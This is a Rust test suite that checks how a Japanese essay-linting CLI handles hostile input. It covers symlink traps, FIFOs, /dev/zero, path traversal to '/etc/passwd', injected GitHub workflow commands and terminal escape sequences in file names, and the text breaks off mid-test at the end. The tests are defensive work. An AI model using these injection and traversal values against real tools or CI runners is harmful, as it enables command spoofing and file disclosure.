//! Hostile input and shared folders (issue 11): one test per row of the attack table, each
//! asserting the exact outcome. Everything happens inside throw-away folders: FIFOs, sockets,
//! links (to `/dev/zero` or `/dev/null` at most, never written) and device nodes are created
//! there; no test writes to a real device file or a system path. Commands that could hang run
//! with a timeout. The cases that need another user run as `nobody` through `setpriv` when the
//! tests run as root, and directly when they already run unprivileged.
//!
//! The big-input timings (50 MB of newlines, 50 MB of 「あ。」 lines, 80k fixes) are `#[ignore]`d
//! release-only tests here, with smaller always-on versions; the README's performance section
//! has the measured figures.

#![cfg(unix)]

use assert_cmd::Command;
use itsm::fsio::{self, Expect, WriteError};
use predicates::prelude::*;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::Path;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// Long enough for a debug build on a busy machine; a hang is what it catches.
const TIMEOUT: Duration = Duration::from_secs(60);

fn itsm() -> Command {
    let mut c = Command::cargo_bin("itsm").unwrap();
    c.env("NO_COLOR", "1").timeout(TIMEOUT);
    c
}

/// A clean module paragraph from the library (the drafter's own output).
fn good() -> &'static str {
    static G: OnceLock<String> = OnceLock::new();
    G.get_or_init(|| {
        let lib = itsm::library::Library::embedded().unwrap();
        itsm::draft::draft(&lib, lib.case("fx").unwrap(), "change", None, 1)
            .unwrap()
            .text
    })
}

/// The clean paragraph with one safe fix to make (half-width 「ﾍﾝｺｳ」, S012).
fn fixable() -> String {
    good().replacen("変更", "ﾍﾝｺｳ", 1)
}

fn fixed() -> String {
    good().replacen("変更", "ヘンコウ", 1)
}

fn mkfifo(p: &Path) {
    let ok = std::process::Command::new("mkfifo")
        .arg(p)
        .status()
        .expect("mkfifo (coreutils) runs");
    assert!(ok.success());
}

fn chmod(p: &Path, mode: u32) {
    fs::set_permissions(p, fs::Permissions::from_mode(mode)).unwrap();
}

fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

fn stderr_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn is_root() -> bool {
    fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

// ---------------------------------------------------------------------------------------------
// Row: `write_atomic` used a predictable temporary name `.NAME.itsm-tmp-PID`.

#[test]
fn planted_links_for_guessed_temp_names_are_never_followed() {
    let shared = tempfile::tempdir().unwrap();
    chmod(shared.path(), 0o1777);
    let victim_dir = tempfile::tempdir().unwrap();
    let victim = victim_dir.path().join("victim.txt");
    fs::write(&victim, "大事なファイル").unwrap();
    // Links under the old predictable names for the next few thousand process ids, for both
    // targets (`draft -o out.md` and `lint --fix essay.md`), and for this process's id (the
    // in-process write below).
    let me = std::process::id();
    let mut planted = 0;
    for name in ["out.md", "essay.md"] {
        for pid in me.saturating_sub(100)..me + 1000 {
            symlink(
                &victim,
                shared.path().join(format!(".{name}.itsm-tmp-{pid}")),
            )
            .unwrap();
            planted += 1;
        }
    }
    let out = shared.path().join("out.md");
    itsm()
        .args(["draft", "--case", "fx", "--theme", "change", "-o"])
        .arg(&out)
        .assert()
        .success();
    fs::write(shared.path().join("essay.md"), fixable()).unwrap();
    itsm()
        .args(["lint", "--fix"])
        .arg(shared.path().join("essay.md"))
        .assert()
        .success();
    fsio::write_atomic(&out, "上書き".as_bytes(), Expect::Any).unwrap();
    assert_eq!(fs::read_to_string(&victim).unwrap(), "大事なファイル");
    assert_eq!(fs::read_to_string(&out).unwrap(), "上書き");
    assert_eq!(
        fs::read_to_string(shared.path().join("essay.md")).unwrap(),
        fixed()
    );
    // Every planted link is still a link to the victim; nothing else was left behind.
    let all = names(shared.path());
    assert_eq!(all.len(), planted + 2, "{:?}", &all[..all.len().min(5)]);
    for n in all.iter().filter(|n| n.starts_with('.')) {
        let p = shared.path().join(n);
        assert_eq!(fs::read_link(&p).unwrap(), victim, "{n}");
    }
}

// ---------------------------------------------------------------------------------------------
// Rows: a FIFO (or a socket) given as input, as `question:`, as `--question`, in a library;
// `/dev/zero` (or a link to it) in the same places; an input over the size limit.

#[test]
fn fifos_and_sockets_are_refused_without_hanging() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("itsm.yaml"), "").unwrap();
    let fifo = dir.path().join("pipe.md");
    mkfifo(&fifo);
    let sock_path = dir.path().join("sock.md");
    let _sock = std::os::unix::net::UnixListener::bind(&sock_path).unwrap();
    let good_file = dir.path().join("good.md");
    fs::write(&good_file, good()).unwrap();
    // Alone: nothing readable, exit 2, the kind named.
    itsm()
        .arg("lint")
        .arg(&fifo)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "pipe.md: FIFO（名前付きパイプ）のため読み込めません（通常のファイルだけを読みます）",
        ));
    // With a good file: IO001 on each special file, the good file linted.
    let out = itsm()
        .args(["lint", "--format", "json"])
        .args([&fifo, &sock_path, &good_file])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let msg = |i: usize| {
        v["files"][i]["diagnostics"][0]["message"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert_eq!(v["files"][0]["diagnostics"][0]["code"], "IO001");
    assert!(msg(0).starts_with("FIFO"), "{}", msg(0));
    assert!(msg(1).starts_with("ソケット"), "{}", msg(1));
    assert_eq!(v["files"][2]["diagnostics"], serde_json::json!([]));
    // score and count too.
    itsm()
        .arg("score")
        .arg(&fifo)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("FIFO"));
    itsm()
        .arg("count")
        .arg(&fifo)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("FIFO"));
    // --question and front matter `question:` naming the FIFO.
    let qfifo = dir.path().join("q.txt");
    mkfifo(&qfifo);
    itsm()
        .args(["lint", "--question"])
        .arg(&qfifo)
        .arg(&good_file)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("問題文のファイル").and(predicate::str::contains("FIFO")));
    let essay = dir.path().join("essay.md");
    fs::write(&essay, format!("---\nquestion: q.txt\n---\n{}", good())).unwrap();
    let out = itsm()
        .args(["lint", "--format", "json"])
        .arg(&essay)
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let d = &v["files"][0]["diagnostics"][0];
    assert_eq!(d["code"], "IO003");
    assert!(d["message"].as_str().unwrap().contains("FIFO"), "{d}");
    // --config naming a FIFO.
    itsm()
        .args(["lint", "--config"])
        .arg(&qfifo)
        .arg(&good_file)
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("設定ファイルを読み込めません")
                .and(predicate::str::contains("FIFO")),
        );
    // A FIFO inside a library overlay.
    let lib = dir.path().join("lib");
    fs::create_dir_all(lib.join("cases")).unwrap();
    mkfifo(&lib.join("cases/stuck.yaml"));
    itsm()
        .args(["draft", "--case", "fx", "--theme", "change", "--library"])
        .arg(&lib)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("stuck.yaml").and(predicate::str::contains("FIFO")));
}

#[test]
fn dev_zero_and_oversized_files_are_refused_before_they_are_read() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("itsm.yaml"), "").unwrap();
    let zero = dir.path().join("zero.md");
    symlink("/dev/zero", &zero).unwrap();
    let start = Instant::now();
    itsm()
        .arg("lint")
        .arg(&zero)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "zero.md: キャラクタデバイスのため読み込めません",
        ));
    itsm()
        .args(["lint", "--question"])
        .arg(&zero)
        .arg(dir.path().join("itsm.yaml"))
        .assert()
        .code(2)
        .stderr(predicate::str::contains("キャラクタデバイス"));
    // Front matter pointing at the link: the link leads out of the repository.
    let essay = dir.path().join("essay.md");
    fs::write(&essay, format!("---\nquestion: zero.md\n---\n{}", good())).unwrap();
    itsm().arg("lint").arg(&essay).assert().code(1).stdout(
        predicate::str::contains("error[IO003]").and(predicate::str::contains("リポジトリ")),
    );
    // In a library overlay.
    let lib = dir.path().join("lib");
    fs::create_dir_all(lib.join("modules")).unwrap();
    symlink("/dev/zero", lib.join("modules/zero.yaml")).unwrap();
    itsm()
        .args(["draft", "--case", "fx", "--theme", "change", "--library"])
        .arg(&lib)
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("zero.yaml")
                .and(predicate::str::contains("キャラクタデバイス")),
        );
    // Files over the limits (sparse: no disk is used): an essay over 64 MiB, a config over 1 MiB.
    let huge = dir.path().join("huge.md");
    fs::File::create(&huge)
        .unwrap()
        .set_len(fsio::limits::INPUT + 1)
        .unwrap();
    itsm()
        .arg("lint")
        .arg(&huge)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "huge.md: 大きすぎるため読み込めません（上限 64 MiB）",
        ));
    let big_config = dir.path().join("big.yaml");
    fs::File::create(&big_config)
        .unwrap()
        .set_len(fsio::limits::CONFIG + 1)
        .unwrap();
    itsm()
        .args(["lint", "--config"])
        .arg(&big_config)
        .arg(&essay)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "大きすぎるため読み込めません（上限 1 MiB）",
        ));
    assert!(start.elapsed() < TIMEOUT, "{:?}", start.elapsed());
}

// ---------------------------------------------------------------------------------------------
// Row: `question:` in front matter could read any path.

#[test]
fn front_matter_question_never_leaves_the_repository() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    fs::write(&secret, "設問ア\nあなたの秘密について800字以内で述べよ。\n").unwrap();
    let repo = tempfile::tempdir().unwrap();
    fs::write(repo.path().join("itsm.yaml"), "").unwrap();
    fs::create_dir_all(repo.path().join("essays")).unwrap();
    fs::create_dir_all(repo.path().join("questions")).unwrap();
    fs::write(
        repo.path().join("questions/q.txt"),
        "設問ア\nITサービスの概要について800字以内で述べよ。\n",
    )
    .unwrap();
    symlink(&secret, repo.path().join("questions/link.txt")).unwrap();
    let lint_question = |q: &str| -> serde_json::Value {
        let essay = repo.path().join("essays/e.md");
        fs::write(&essay, format!("---\nquestion: {q}\n---\n{}", good())).unwrap();
        let out = itsm()
            .args(["lint", "--format", "json"])
            .arg(&essay)
            .output()
            .unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        v["files"][0]["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["code"] == "IO003")
            .cloned()
            .unwrap_or(serde_json::Value::Null)
    };
    // Inside the repository (the folder of itsm.yaml): read.
    assert_eq!(lint_question("../questions/q.txt"), serde_json::Value::Null);
    // An absolute path, `..` out of the repository, a link pointing out: refused by name.
    for q in [
        secret.display().to_string(),
        "/etc/passwd".to_owned(),
        format!("../../{}", "x".repeat(3)),
        "../questions/link.txt".to_owned(),
    ] {
        let d = lint_question(&q);
        let m = d["message"].as_str().unwrap_or_default();
        assert!(
            m.contains("リポジトリ") || m.contains("見つかりません"),
            "{q}: {d}"
        );
        assert!(!m.contains("秘密"), "{q}: {m}");
    }
    let d = lint_question("/etc/passwd");
    assert!(
        d["message"]
            .as_str()
            .unwrap()
            .contains("の外にあるため読みません"),
        "{d}"
    );
    // The user's own `--question` may name any file.
    itsm()
        .args(["lint", "--format", "json", "--question"])
        .arg(&secret)
        .arg(repo.path().join("essays/e.md"))
        .assert()
        .stdout(predicate::str::contains("IO003").not());
    // Without a config: the folder with `.git`, else the folder above the essay's (a study
    // folder with essays/ and questions/ side by side); never further up.
    let bare = tempfile::tempdir().unwrap();
    let study = bare.path().join("study");
    fs::create_dir_all(study.join("essays")).unwrap();
    fs::create_dir_all(study.join("questions")).unwrap();
    let q = "設問ア\n概要について800字以内で述べよ。\n";
    fs::write(study.join("questions/q.txt"), q).unwrap();
    fs::write(bare.path().join("above.txt"), q).unwrap();
    let essay = study.join("essays/e.md");
    let lint_with = |named: &str| {
        fs::write(&essay, format!("---\nquestion: {named}\n---\n{}", good())).unwrap();
        itsm().arg("lint").arg(&essay).assert()
    };
    lint_with("../questions/q.txt").stdout(predicate::str::contains("IO003").not());
    lint_with("../../above.txt").stdout(predicate::str::contains("error[IO003]"));
    fs::create_dir(bare.path().join(".git")).unwrap();
    lint_with("../../above.txt").stdout(predicate::str::contains("IO003").not());
}

// ---------------------------------------------------------------------------------------------
// Row: `--format github` — stderr messages and `--fix --diff` headers could inject commands.

/// Every line is a well-formed workflow command (or inside a `::stop-commands::` block): no
/// line can be read by the runner as a command it did not come from.
fn assert_only_commands(what: &str, out: &str) {
    let mut stopped: Option<String> = None;
    for line in out.lines() {
        if let Some(token) = &stopped {
            if line == format!("::{token}::") {
                stopped = None;
            }
            continue;
        }
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "{what}: raw control character in {line:?}"
        );
        let t = line.trim_start();
        let rest = t
            .strip_prefix("::")
            .unwrap_or_else(|| panic!("{what}: a plain line in the GitHub format: {line:?}"));
        let (head, data) = rest
            .split_once("::")
            .unwrap_or_else(|| panic!("{what}: not a command: {line:?}"));
        let (cmd, props) = head.split_once(' ').unwrap_or((head, ""));
        match cmd {
            "stop-commands" => {
                assert!(props.is_empty() && data.starts_with("itsm-"), "{line:?}");
                stopped = Some(data.to_owned());
                continue;
            }
            "error" | "warning" | "notice" => {}
            other => panic!("{what}: unexpected command {other:?} in {line:?}"),
        }
        for p in props.split(',').filter(|p| !p.is_empty()) {
            let (k, v) = p
                .split_once('=')
                .unwrap_or_else(|| panic!("{what}: property without value in {line:?}"));
            assert!(
                ["file", "line", "endLine", "col", "endColumn", "title"].contains(&k),
                "{what}: property {k:?} in {line:?}"
            );
            assert!(!v.contains(':') && !v.contains(','), "{line:?}");
        }
    }
    assert!(stopped.is_none(), "{what}: stop-commands never ended");
}

#[test]
fn github_format_prints_only_commands_on_stdout_and_stderr() {
    let dir = tempfile::tempdir().unwrap();
    // A config that excludes one file named on the command line (a note on stderr).
    fs::write(dir.path().join("itsm.yaml"), "exclude: [\"skip*\"]\n").unwrap();
    let nasty = "a\n::error file=x,line=1::pwned\r\x1b]8;;https:x\x07,b:c.md";
    let bad = dir.path().join(nasty);
    fs::write(&bad, fixable() + "・箇条書き\n").unwrap();
    let unreadable = dir.path().join("b\n::warning::injected.md");
    mkfifo(&unreadable);
    let skipped = dir.path().join("skip\n::error::excluded.md");
    fs::write(&skipped, good()).unwrap();
    // A file whose own lines look like commands (shown as diff context).
    let body = dir.path().join("body.md");
    fs::write(&body, format!("::error::from the body\n{}", fixable())).unwrap();
    let mut runs = Vec::new();
    for args in [
        vec!["lint", "--format", "github"],
        vec!["lint", "--format", "github", "--fix", "--diff"],
        vec!["score", "--format", "github"],
    ] {
        let out = itsm()
            .args(&args)
            .args([&bad, &unreadable, &skipped, &body])
            .output()
            .unwrap();
        runs.push((args.join(" "), out));
    }
    // --fix writes: the fix log on stderr.
    let out = itsm()
        .args(["lint", "--format", "github", "--fix"])
        .args([&bad, &skipped])
        .output()
        .unwrap();
    runs.push(("lint --fix".into(), out));
    for (what, out) in &runs {
        assert_only_commands(&format!("{what} stdout"), &stdout_of(out));
        assert_only_commands(&format!("{what} stderr"), &stderr_of(out));
    }
    let all: String = runs
        .iter()
        .map(|(_, o)| stdout_of(o) + &stderr_of(o))
        .collect();
    // The injected texts are there, escaped, never at the start of a line.
    assert!(
        all.contains("a%0A%3A%3Aerror file=x%2Cline=1%3A%3Apwned"),
        "{all}"
    );
    assert!(
        all.lines().any(|l| l.starts_with("::notice file=")
            && l.contains("skip%0A%3A%3Aerror%3A%3Aexcluded.md::")),
        "{all}"
    );
    assert!(
        all.contains("a␊::error file=x,line=1::pwned␍␛]8;;https:x␇,b:c.md:1 S012"),
        "{all}"
    );
    assert!(all.contains("::stop-commands::itsm-"));
    assert!(
        all.contains("\n ::error::from the body\n"),
        "the diff shows the body verbatim"
    );
    assert_eq!(fs::read_to_string(&bad).unwrap(), fixed() + "・箇条書き\n");
}

// ---------------------------------------------------------------------------------------------
// Row: raw ESC / BEL / OSC 8 reached the terminal from score's human output and file names.

#[test]
fn control_characters_from_the_input_are_shown_never_sent() {
    let dir = tempfile::tempdir().unwrap();
    let name = "x\x1b]8;;https:evil\x07link\x1b]8;;\x07\x1b[2J.md";
    let p = dir.path().join(name);
    fs::write(
        &p,
        good().replacen("CAB", "CAB\x1b[31m\x07\u{9b}2J", 1) + "\n・箇条書き\x1b[0m\n",
    )
    .unwrap();
    let fifo = dir.path().join("f\x1b[1m.md");
    mkfifo(&fifo);
    for args in [
        vec!["lint"],
        vec!["score"],
        vec!["count"],
        vec!["lint", "--fix", "--diff"],
        vec!["lint", "--fix"],
    ] {
        let out = itsm().args(&args).args([&p, &fifo]).output().unwrap();
        let text = stdout_of(&out) + &stderr_of(&out);
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{args:?}: {text:?}"
        );
        assert!(text.contains('␛'), "{args:?}: {text}");
    }
    let out = itsm().arg("score").arg(&p).output().unwrap();
    let s = stdout_of(&out);
    assert!(
        s.contains("x␛]8;;https:evil␇link␛]8;;␇␛[2J.md: モジュール段落"),
        "{s}"
    );
}

// ---------------------------------------------------------------------------------------------
// Rows: `lint --fix` on a symlink, on a hard link, on another user's / a 0600 file.

#[test]
fn fix_through_a_symlink_fixes_the_target_and_keeps_the_link() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("real")).unwrap();
    let target = dir.path().join("real/essay.md");
    fs::write(&target, fixable()).unwrap();
    let link = dir.path().join("link.md");
    symlink("real/essay.md", &link).unwrap();
    itsm().args(["lint", "--fix"]).arg(&link).assert().success();
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fs::read_link(&link).unwrap(), Path::new("real/essay.md"));
    assert_eq!(fs::read_to_string(&target).unwrap(), fixed());
    assert_eq!(names(&dir.path().join("real")), ["essay.md"]);
    // draft -o --force through a link writes the target too, and says so.
    itsm()
        .args([
            "draft", "--case", "fx", "--theme", "change", "--force", "-o",
        ])
        .arg(&link)
        .assert()
        .success()
        .stderr(
            predicate::str::contains("real/essay.md に書き出しました（")
                .and(predicate::str::contains("link.md のリンク先）")),
        );
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fs::read_to_string(&target).unwrap().trim(), good());
}

#[test]
fn fix_refuses_a_hard_linked_file_and_keeps_both_names_together() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.md");
    fs::write(&a, fixable()).unwrap();
    let b = dir.path().join("b.txt");
    fs::hard_link(&a, &b).unwrap();
    itsm()
        .args(["lint", "--fix"])
        .arg(&a)
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("ハードリンクが 2 個あるため書き換えません")
                .and(predicate::str::contains("元のファイルはそのままです")),
        );
    assert_eq!(fs::read_to_string(&a).unwrap(), fixable());
    assert_eq!(
        fs::metadata(&a).unwrap().ino(),
        fs::metadata(&b).unwrap().ino()
    );
    assert_eq!(names(dir.path()), ["a.md", "b.txt"]);
}

#[test]
fn fix_keeps_the_mode_and_the_owner() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("private.md");
    fs::write(&p, fixable()).unwrap();
    chmod(&p, 0o600);
    // As root, the file belongs to someone else (nobody); otherwise to us.
    let owner = if is_root() {
        std::os::unix::fs::chown(&p, Some(65534), Some(65534)).unwrap();
        (65534, 65534)
    } else {
        let m = fs::metadata(&p).unwrap();
        (m.uid(), m.gid())
    };
    itsm().args(["lint", "--fix"]).arg(&p).assert().success();
    let m = fs::metadata(&p).unwrap();
    assert_eq!(fs::read_to_string(&p).unwrap(), fixed());
    assert_eq!(m.permissions().mode() & 0o7777, 0o600);
    assert_eq!((m.uid(), m.gid()), owner);
    assert_eq!(names(dir.path()), ["private.md"]);
}

// ---------------------------------------------------------------------------------------------
// Row: `draft -o` onto a dangling symlink without --force; `-o DEVICE --force`.

#[test]
fn draft_never_replaces_dangling_links_silently_or_anything_but_a_regular_file() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let planted_target = elsewhere.path().join("created-by-link.md");
    let dangling = dir.path().join("out.md");
    symlink(&planted_target, &dangling).unwrap();
    let draft = ["draft", "--case", "fx", "--theme", "change", "-o"];
    itsm()
        .args(draft)
        .arg(&dangling)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "out.md は既に存在します。上書きするには --force を付けてください",
        ));
    assert!(
        fs::symlink_metadata(&dangling)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // --force replaces the link itself; the place it points at is never created.
    itsm()
        .args(draft)
        .arg(&dangling)
        .arg("--force")
        .assert()
        .success();
    assert!(
        fs::symlink_metadata(&dangling)
            .unwrap()
            .file_type()
            .is_file()
    );
    assert!(!planted_target.exists());
    // A device node (made here, a copy of /dev/null's numbers, when we may), a FIFO, a socket and
    // links to them: refused even with --force, left as they were.
    let mut specials = Vec::new();
    if is_root() {
        let node = dir.path().join("null");
        let ok = std::process::Command::new("mknod")
            .arg(&node)
            .args(["c", "1", "3"])
            .status()
            .is_ok_and(|s| s.success());
        if ok {
            specials.push((
                node,
                "キャラクタデバイスです。通常のファイル以外は置き換えません",
            ));
        }
    }
    let fifo = dir.path().join("fifo");
    mkfifo(&fifo);
    specials.push((fifo.clone(), "FIFO（名前付きパイプ）です。"));
    let link = dir.path().join("to-fifo.md");
    symlink(&fifo, &link).unwrap();
    specials.push((link.clone(), "FIFO（名前付きパイプ）です。"));
    let sock = dir.path().join("sock");
    let _l = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    specials.push((sock.clone(), "ソケットです。"));
    for (p, msg) in &specials {
        let before = fs::symlink_metadata(p).unwrap().file_type();
        for force in [false, true] {
            let mut c = itsm();
            c.args(draft).arg(p);
            if force {
                c.arg("--force");
            }
            c.assert().code(2).stderr(predicate::str::contains(*msg));
        }
        assert_eq!(
            fs::symlink_metadata(p).unwrap().file_type(),
            before,
            "{p:?}"
        );
    }
    // No temporary file was left anywhere.
    assert!(names(dir.path()).iter().all(|n| !n.contains("itsm-tmp")));
}

// ---------------------------------------------------------------------------------------------
// Row: the file edited while `--fix` runs lost the edit.

#[test]
fn an_edit_made_while_fixing_is_never_lost() {
    // The steps of `lint --fix`, with another writer between the read and the write.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("essay.md");
    fs::write(&p, fixable()).unwrap();
    let read = fsio::read(&p, fsio::limits::INPUT).unwrap();
    let lib = itsm::library::Library::embedded().unwrap();
    let vocab = itsm::lint::Vocabulary::from_library(&lib);
    let text = String::from_utf8(read.bytes.clone()).unwrap();
    let outcome = itsm::lint::fix::fix_text("essay.md", &text, &vocab, &Default::default());
    assert!(outcome.changed());
    // Meanwhile an editor saves a new version (same size, different text; then a longer one).
    for edit in [
        fixable().replacen("CAB", "ＣＡＢ", 1)[..fixable().len()].to_owned(),
        fixable() + "追記。",
    ] {
        fs::write(&p, &edit).unwrap();
        let e = fsio::write_atomic(
            &p,
            outcome.text.as_bytes(),
            Expect::Unchanged(read.fingerprint),
        )
        .unwrap_err();
        assert!(matches!(e, WriteError::Changed), "{e}");
        assert_eq!(fs::read_to_string(&p).unwrap(), edit, "the edit is kept");
    }
    // Deleted meanwhile: nothing is recreated.
    fs::remove_file(&p).unwrap();
    let e = fsio::write_atomic(&p, b"x", Expect::Unchanged(read.fingerprint)).unwrap_err();
    assert!(matches!(e, WriteError::Vanished), "{e}");
    assert!(!p.exists());
    assert_eq!(names(dir.path()), Vec::<String>::new());
    // The message the command prints.
    assert_eq!(
        WriteError::Changed.to_string(),
        "読み込んだ後に変更されたため書き換えませんでした（変更を失わないため）。もう一度実行してください"
    );
}

// ---------------------------------------------------------------------------------------------
// Rows: an unreadable sub-folder was skipped silently; writing as another user. These need a
// user whom permissions bind: `nobody` via setpriv when we are root, else ourselves.

/// `itsm ARGS` as an unprivileged user: (exit code, stdout, stderr).
fn run_unprivileged(args: &[&std::ffi::OsStr]) -> (i32, String, String) {
    let bin = assert_cmd::cargo::cargo_bin("itsm");
    let mut c = if is_root() {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(&bin);
        c
    } else {
        std::process::Command::new(&bin)
    };
    c.args(args).env("NO_COLOR", "1");
    let out = c.output().unwrap_or_else(|e| {
        panic!(
            "cannot run itsm as an unprivileged user ({e}); as root these tests need setpriv \
             (util-linux) to drop to `nobody`"
        )
    });
    (
        out.status.code().unwrap_or(-1),
        stdout_of(&out),
        stderr_of(&out),
    )
}

/// A folder the unprivileged user owns (world-reachable parents).
fn unprivileged_dir() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    chmod(d.path(), 0o777);
    d
}

fn give_to_user(p: &Path) {
    if is_root() {
        std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
    }
}

#[test]
fn as_an_unprivileged_user_unreadable_folders_are_reported_and_writes_stay_safe() {
    let dir = unprivileged_dir();
    let essays = dir.path().join("essays");
    fs::create_dir(&essays).unwrap();
    let mine = essays.join("mine.md");
    fs::write(&mine, fixable()).unwrap();
    chmod(&mine, 0o600);
    give_to_user(&essays);
    give_to_user(&mine);
    let locked = essays.join("locked");
    fs::create_dir(&locked).unwrap();
    fs::write(locked.join("hidden.md"), good()).unwrap();
    chmod(&locked, 0o000);
    give_to_user(&locked);
    // The walk reports the folder it cannot read (IO001, an error: exit 1) and fixes the rest.
    let (code, out, _) = run_unprivileged(&["lint".as_ref(), "--fix".as_ref(), essays.as_os_str()]);
    chmod(&locked, 0o755);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("error[IO001]: フォルダを読み込めません（読み取る権限がありません）"),
        "{out}"
    );
    assert!(out.contains("locked"), "{out}");
    assert_eq!(fs::read_to_string(&mine).unwrap(), fixed());
    let m = fs::metadata(&mine).unwrap();
    assert_eq!(m.permissions().mode() & 0o777, 0o600);
    assert_eq!(m.uid(), fs::metadata(&essays).unwrap().uid());
    // json and the exit code agree; count and score stop with 2.
    chmod(&locked, 0o000);
    let (code, out, _) = run_unprivileged(&[
        "lint".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        essays.as_os_str(),
    ]);
    assert_eq!(code, 1);
    assert!(out.contains("\"IO001\""), "{out}");
    let (code, _, err) = run_unprivileged(&["count".as_ref(), essays.as_os_str()]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("フォルダを読み込めません"), "{err}");
    let (code, _, err) = run_unprivileged(&["score".as_ref(), essays.as_os_str()]);
    assert_eq!(code, 2, "{err}");
    chmod(&locked, 0o755);
    // A file the user may write in a folder it may not: refused, untouched, nothing left.
    let ro_dir = dir.path().join("ro");
    fs::create_dir(&ro_dir).unwrap();
    let theirs = ro_dir.join("theirs.md");
    fs::write(&theirs, fixable()).unwrap();
    chmod(&theirs, 0o666);
    chmod(&ro_dir, 0o755);
    let (code, _, err) = run_unprivileged(&["lint".as_ref(), "--fix".as_ref(), theirs.as_os_str()]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("一時ファイルを作れません"), "{err}");
    assert!(err.contains("元のファイルはそのままです"), "{err}");
    assert_eq!(fs::read_to_string(&theirs).unwrap(), fixable());
    assert_eq!(names(&ro_dir), ["theirs.md"]);
}

// ---------------------------------------------------------------------------------------------
// Row: `--fix` was quadratic in the number of fixes.

/// `n` lines of full-width ASCII, one fix each (S013 full-width → half-width).
fn many_fixes(n: usize) -> String {
    "ＡＢＣの件。\n".repeat(n)
}

#[test]
fn fix_is_linear_in_the_number_of_fixes() {
    let lib = itsm::library::Library::embedded().unwrap();
    let vocab = itsm::lint::Vocabulary::from_library(&lib);
    let settings = itsm::lint::Settings::default();
    let time = |n: usize| {
        let text = many_fixes(n);
        let start = Instant::now();
        let o = itsm::lint::fix::fix_text("x.md", &text, &vocab, &settings);
        assert_eq!(o.applied.len(), n);
        assert_eq!(o.text, "ABCの件。\n".repeat(n));
        start.elapsed()
    };
    let small = time(1_000);
    let large = time(8_000);
    // 8× the fixes: quadratic work would take 64× as long.
    assert!(
        large < small * 24 + Duration::from_millis(200),
        "1,000 fixes {small:?}, 8,000 fixes {large:?}"
    );
}

#[test]
#[ignore = "release-only scale test; run with `cargo test --release --test it hostile -- --ignored`"]
fn eighty_thousand_fixes_take_well_under_a_second_in_a_release_build() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("many.md");
    fs::write(&p, many_fixes(80_000)).unwrap();
    let start = Instant::now();
    itsm()
        .args(["lint", "--fix", "--format", "json"])
        .arg(&p)
        .assert()
        .stderr(predicate::str::contains(
            "修正しました: 80000件（1ファイル）",
        ));
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "{:?}",
        start.elapsed()
    );
    assert_eq!(
        fs::read_to_string(&p).unwrap(),
        "ABCの件。\n".repeat(80_000)
    );
}

// ---------------------------------------------------------------------------------------------
// Row: banned replacements that hold banned words made `--fix` grow the file 2¹⁰ times.

#[test]
fn banned_replacements_holding_banned_words_are_config_errors() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("itsm.yaml"),
        "banned: {Foo: \"Bar、Bar\", Bar: \"Foo、Foo\"}\n",
    )
    .unwrap();
    let p = dir.path().join("a.md");
    fs::write(&p, "Fooを使った。\n").unwrap();
    itsm()
        .args(["lint", "--fix"])
        .arg(&p)
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains(
                "error[CF001]: 「Bar」の言い換え「Foo、Foo」に、別の禁止語「Foo」が含まれています",
            )
            .and(predicate::str::contains(
                "「Foo」の言い換え「Bar、Bar」に、別の禁止語「Bar」",
